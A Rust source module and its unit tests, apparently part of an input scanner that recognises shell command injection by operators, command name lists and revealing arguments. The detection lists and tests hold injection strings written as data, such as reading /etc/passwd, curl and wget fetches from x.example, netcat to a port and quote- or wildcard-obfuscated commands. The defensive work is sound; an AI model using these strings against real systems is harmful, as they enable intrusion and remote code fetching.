//! The shell grammar: does a command stand where a shell would run one?

/// The most bytes of a value that are read from the operator on.
const READ_BYTES_MAX: usize = 512;

/// The longest command word, after quotes are removed.
const WORD_BYTES_MAX: usize = 32;

/// Commands whose names are no words of a natural language.
const COMMANDS: &str = "\
    awk base64 bash busybox certutil chmod chown cmd cmd.exe crontab csh curl dash dig fetch gawk gcc \
    grep ifconfig ipconfig ksh lua mkdir mkfifo mknod mshta ncat netcat netstat nohup nslookup openssl \
    perl php powershell powershell.exe printenv pwsh python python2 python3 regsvr32 ruby rundll32 scp \
    sed socat ssh sudo systeminfo tasklist tcpdump telnet tftp traceroute uname useradd wget whoami wmic \
    xargs zsh";

/// Commands that are also ordinary words or names: they need arguments that only a shell takes.
const COMMON_WORDS: &str = "\
    arp bin cat cp cut date del dir echo env eval exec export expr find finger ftp groups head history \
    host hostname id install kill last less ln ls lsof mail more mount mv nc net nl nmap node paste ping \
    printf ps pwd reboot rev rm route set sh shutdown sleep sort source strings su tac tail tar tee time \
    timeout top touch type uniq ver vi vim w wc who xxd";

/// Commands that only an intruder runs: in the middle of a text they are telling too.
const TELLING_COMMANDS: &str = "ifconfig ipconfig nc ncat netcat nslookup systeminfo tasklist whoami";

/// What the arguments of an intruder's command hold, and those of an example in a text rarely do.
const TELLING_ARGUMENTS: [&[u8]; 8] =
    [b"/etc/", b"/dev/tcp", b"passwd", b"http://", b"https://", b"/bin/", b"/tmp/", b"${IFS"];

/// What follows a command's name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Follows {
    /// The end of the value.
    End,
    /// An operator, a closing bracket or a comment.
    Operator,
    /// Something only a command line has: an option, a path, a variable, an address, a quoted word.
    Argument,
    /// Anything else, such as prose.
    Other,
}

/// What stands before an operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Before {
    /// Nothing but numbers, quotes and other marks.
    Nothing,
    /// One word, such as a host or a file.
    Word,
    /// Several words: a sentence, or a longer command line.
    Text,
}

/// Whether the operator that the pattern matched at `start..end` is followed by a command and the command by what a
/// command line goes on with.
pub(super) fn is_command(value: &[u8], start: usize, end: usize) -> bool {
    let stop = start.saturating_add(READ_BYTES_MAX).min(value.len());
    let Some(text) = value.get(start..stop) else { return false };
    let operator_length = text.iter().take_while(|byte| is_operator(**byte)).count();
    if operator_length == 0 || start >= end {
        return false;
    }
    let earlier = value[..start].iter().rev().take(2).take_while(|byte| is_operator(**byte)).count();
    let start = start - earlier;
    let operator = &value[start..start + earlier + operator_length];
    if operator.contains(&b'`') && is_markup(value, start)
        || operator.iter().all(|byte| matches!(byte, b'\n' | b'\r')) && is_prose(&value[..start])
    {
        return false;
    }
    let (word, rest) = command_word(&text[operator_length..]);
    runs(value, start, operator, word.as_slice(), rest)
}

/// Whether the command `word`, between `operator` at `start` and `rest`, is one that is to be run.
fn runs(value: &[u8], start: usize, operator: &[u8], word: &[u8], rest: &[u8]) -> bool {
    let before = what_precedes(&value[..start]);
    let follows = what_follows(rest);
    let known = is_one_of(COMMANDS, word);
    if !known && !is_one_of(COMMON_WORDS, word) {
        return false;
    }
    let substitutes = operator.contains(&b'`') || operator.ends_with(b"$(");
    if before == Before::Text && (substitutes || operator == b"|" || operator.contains(&b'\n')) {
        return has_telling_argument(rest)
            || follows != Follows::Other && is_one_of(TELLING_COMMANDS, word)
            || substitutes && word == b"id" && matches!(rest.first(), Some(b'`' | b')'));
    }
    if known {
        let between_bars = operator == b"|" && rest.starts_with(b"|");
        return (follows != Follows::Other || before == Before::Nothing && is_short(rest))
            && !between_bars
            && !(operator == b"|" && follows == Follows::End && in_list(value, start));
    }
    // `&id>` is a reference in source code.
    let separated = operator != b"&" || rest.first().is_none_or(u8::is_ascii_whitespace);
    match follows {
        _ if !separated => false,
        Follows::Argument => true,
        // `| type |` is the head of a table.
        Follows::Operator if operator == b"|" && rest.trim_ascii_start().starts_with(b"|") => false,
        Follows::End | Follows::Operator if substitutes => is_closed(rest),
        Follows::End | Follows::Operator => {
            let ends = rest.iter().all(|byte| is_operator(*byte));
            (!in_list(value, start) || operator == b";" && ends && !rest.is_empty())
                && !matches!(operator, b"(" | b"{")
                && (operator != b"&" || before == Before::Nothing)
        }
        Follows::Other => before == Before::Nothing && is_short(rest) && has_path_argument(rest),
    }
}

fn what_precedes(before: &[u8]) -> Before {
    let start = before.len().saturating_sub(READ_BYTES_MAX);
    let mut words = before[start..]
        .split(u8::is_ascii_whitespace)
        .filter(|word| word.iter().any(|byte| byte.is_ascii_alphabetic() || !byte.is_ascii()));
    match (words.next(), words.next()) {
        (None, _) => Before::Nothing,
        (Some(_), None) => Before::Word,
        _ => Before::Text,
    }
}

/// Whether a substitution ends right after the command.
fn is_closed(rest: &[u8]) -> bool {
    matches!(rest.trim_ascii_start().first(), Some(b'`' | b')'))
}

/// Whether at most three words are left.
fn is_short(rest: &[u8]) -> bool {
    rest.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(4).count() <= 3
}

/// Whether one of the words is a path, a variable or a redirection.
fn has_path_argument(rest: &[u8]) -> bool {
    rest.split(u8::is_ascii_whitespace).any(|word| matches!(word.first(), Some(b'/' | b'~' | b'$' | b'>')))
}

fn has_telling_argument(rest: &[u8]) -> bool {
    let line = rest.split(|byte| *byte == b'\n').next().unwrap_or_default();
    TELLING_ARGUMENTS.iter().any(|argument| memchr::memmem::find(line, argument).is_some())
}

/// Whether a word is a command of the list; question marks in it stand for any letter, as in file names, but for two at
/// least the letters must be there.
fn is_one_of(commands: &str, word: &[u8]) -> bool {
    let letters = word.iter().filter(|byte| **byte != b'?').count();
    let wild = letters < word.len();
    if wild && letters < 2 {
        return false;
    }
    commands.split_ascii_whitespace().any(|command| {
        command.len() == word.len()
            && command.bytes().zip(word).all(|(expected, byte)| *byte == expected || *byte == b'?')
    })
}

/// Whether the backtick at `start` is one of text markup: it closes a pair, or opens one as the first of a word in a
/// longer text, or several stand together.
fn is_markup(value: &[u8], start: usize) -> bool {
    let before = &value[..start];
    let opens = memchr::memchr_iter(b'`', before).count().is_multiple_of(2);
    let starts_word =
        before.last().is_none_or(|byte| byte.is_ascii_whitespace() || matches!(byte, b'(' | b'['));
    let whole = before.trim_ascii().is_empty() && value.trim_ascii_end().ends_with(b"`");
    let fence = value[start..].starts_with(b"``");
    !opens || fence || starts_word && !whole
}

/// Whether a text before a line end consists of several words: a line end in prose starts no command.
fn is_prose(before: &[u8]) -> bool {
    let before = before.trim_ascii();
    before.len() > READ_BYTES_MAX || before.iter().any(u8::is_ascii_whitespace)
}

fn is_operator(byte: u8) -> bool {
    matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'$' | b'(' | b'{')
}

/// Whether the word before the operator at `start` touches it: `name|id` is a list of names, `1 | id` is not.
fn in_list(value: &[u8], start: usize) -> bool {
    let before = &value[..start];
    let word =
        before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'));
    word.take(WORD_BYTES_MAX).any(u8::is_ascii_alphabetic)
}

/// Reads a command's name as a shell would: white space and `$IFS` before it skipped, quotes and backslashes removed,
/// the folder cut off, in lower case. Returns what comes after it as well.
fn command_word(text: &[u8]) -> (Word, &[u8]) {
    let mut rest = skip_blanks(text);
    let mut word = Word::default();
    while let Some((&byte, after)) = rest.split_first() {
        match byte {
            b'\'' | b'"' | b'\\' | b'^' => {}
            b'$' if after.first() == Some(&b'@') => {
                rest = &after[1..];
                continue;
            }
            b'/' => word.clear(),
            _ if byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'?') => {
                if !word.push(byte.to_ascii_lowercase()) {
                    return (Word::default(), rest);
                }
            }
            _ => break,
        }
        rest = after;
    }
    (word, rest)
}

fn skip_blanks(mut text: &[u8]) -> &[u8] {
    loop {
        text = text.trim_ascii_start();
        match text
            .strip_prefix(b"${IFS}")
            .or_else(|| text.strip_prefix(b"$IFS$9"))
            .or_else(|| text.strip_prefix(b"$IFS"))
        {
            Some(rest) => text = rest,
            None => return text,
        }
    }
}

fn what_follows(rest: &[u8]) -> Follows {
    let rest_trimmed = skip_blanks(rest);
    let Some(&next) = rest_trimmed.first() else { return Follows::End };
    match next {
        b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'#' | b'\n' => Follows::Operator,
        b'>' | b'<' => Follows::Argument,
        // A word that goes on, such as `id=` or `cat:`, is no command.
        _ if rest.len() == rest_trimmed.len() => Follows::Other,
        b'/' | b'~' | b'$' | b'*' | b'?' | b'%' => Follows::Argument,
        b'-' => match rest_trimmed.get(1) {
            Some(letter) if letter.is_ascii_alphanumeric() || *letter == b'-' => Follows::Argument,
            _ => Follows::Other,
        },
        b'"' | b'\'' => Follows::Argument,
        _ => {
            let length = rest_trimmed.iter().take_while(|byte| !byte.is_ascii_whitespace()).count();
            let argument = &rest_trimmed[..length];
            let telling =
                argument.iter().any(|byte| matches!(byte, b'/' | b'\\' | b'$' | b'*' | b'`' | b'>'))
                    || argument.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.')
                    || (argument.contains(&b'.') && argument.last() != Some(&b'.'));
            if telling { Follows::Argument } else { Follows::Other }
        }
    }
}

/// A short word on the stack.
#[derive(Debug, Default)]
struct Word {
    bytes: [u8; WORD_BYTES_MAX],
    length: usize,
}

impl Word {
    fn push(&mut self, byte: u8) -> bool {
        let Some(slot) = self.bytes.get_mut(self.length) else { return false };
        *slot = byte;
        self.length += 1;
        true
    }

    const fn clear(&mut self) {
        self.length = 0;
    }

    fn as_slice(&self) -> &[u8] {
        &self.bytes[..self.length]
    }
}

#[cfg(test)]
mod tests {
    use super::is_command;

    fn check(text: &str) -> bool {
        let start = text.find([';', '|', '&', '`', '$', '\n']).unwrap();
        is_command(text.as_bytes(), start, text.len())
    }

    #[test]
    fn commands() {
        for text in [
            ";cat /etc/passwd",
            "1; id",
            "127.0.0.1|id",
            "x && whoami",
            "a;c''at /etc/hosts",
            ";/bin/c\\at /x",
            "`id`",
            "$(id)",
            "$(curl http://x.example/a)",
            ";ping -c 3 10.0.0.1",
            "| ping 127.0.0.1",
            ";cat${IFS}/etc/hosts",
            "$(/???/c?t /x)",
            "\nwget http://x.example/s.sh",
            ";nc 10.0.0.1 4444",
            ";sleep 5",
            ";uname -a",
            "|whoami;",
            "&&id",
            "x;id;",
            "x$(id)",
            "a`id`",
            ";grep root /etc/passwd",
            ";echo x > /tmp/x",
            ";busybox nc 10.0.0.1 80",
            ";w'h'o'am'i",
            "ping it | nc 10.0.0.1 99",
        ] {
            assert!(check(text), "{text}");
        }
    }

    #[test]
    fn prose_and_lists() {
        for text in [
            "name|id|type",
            "tea; cat and dog",
            "cats & dogs",
            "a;id=5",
            "x; find out more",
            "read it; more follows",
            "black|cat",
            "a && b",
            "price is $ (about",
            "u;q=0.9",
            "Into<Option<&Id>>",
            "```sh\nls -l\n```",
            "| Type  | Null |",
            "one; curl is a tool",
            "fish & date",
            "name;id",
            "bread & more",
            "list them all with lspci | grep -i vga",
            "the machine has a device like `perl -V` says",
            "a longer text about $(date +%s) in scripts",
        ] {
            assert!(!check(text), "{text}");
        }
    }
}
